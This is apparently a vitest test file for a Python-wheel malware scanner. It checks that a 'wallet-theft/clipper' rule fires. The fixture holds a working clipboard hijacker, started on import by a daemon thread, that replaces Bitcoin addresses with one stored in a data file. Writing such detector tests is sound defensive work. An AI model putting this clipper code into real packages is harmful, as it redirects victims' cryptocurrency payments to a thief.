import { expect, test } from 'vitest';
import { analyzeWheel } from '../testing/analyze-wheel.ts';

const MINE = `bc1q${'0'.repeat(20)}example`;
const WATCH = `import json, re, time, pyperclip
from .rules import apply, load

def loop():
    rules, seen = load(), None
    while True:
        text = pyperclip.paste()
        if text != seen:
            seen = apply(text, rules)
            pyperclip.copy(seen)
        time.sleep(1)
`;
const RULES = `import json, re
from importlib import resources

def load():
    raw = json.loads(resources.files(__package__).joinpath("rules.json").read_text())
    return [(re.compile(rule["match"]), rule["use"]) for rule in raw]

def apply(text, rules):
    for pattern, use in rules:
        text = pattern.sub(use, text)
    return text
`;

/** Rules that are told of a wheel that watches the clipboard, by the rules in its data and what starts it. */
async function told(use: string, start: string): Promise<string[]> {
  const { findings } = await analyzeWheel({
    'own/__init__.py': `from .watch import loop\n${start}`,
    'own/watch.py': WATCH,
    'own/rules.py': RULES,
    'own/rules.json': JSON.stringify([
      { match: '\\u00a0', use: ' ' },
      { match: '\\bbc1[a-z0-9]{38,58}\\b', use },
    ]),
  });
  return findings.map(({ rule }) => rule).filter((rule) => rule.startsWith('wallet-theft/'));
}

const START = 'import threading\nthreading.Thread(target=loop, daemon=True).start()\n';

test('an address in the data that another module reads is put on the clipboard', async () => {
  expect(await told(MINE, START)).toContain('wallet-theft/clipper');
});

test('addresses that are only hidden on the clipboard are nobody’s loss', async () => {
  expect(await told('***', START)).toEqual([]);
});
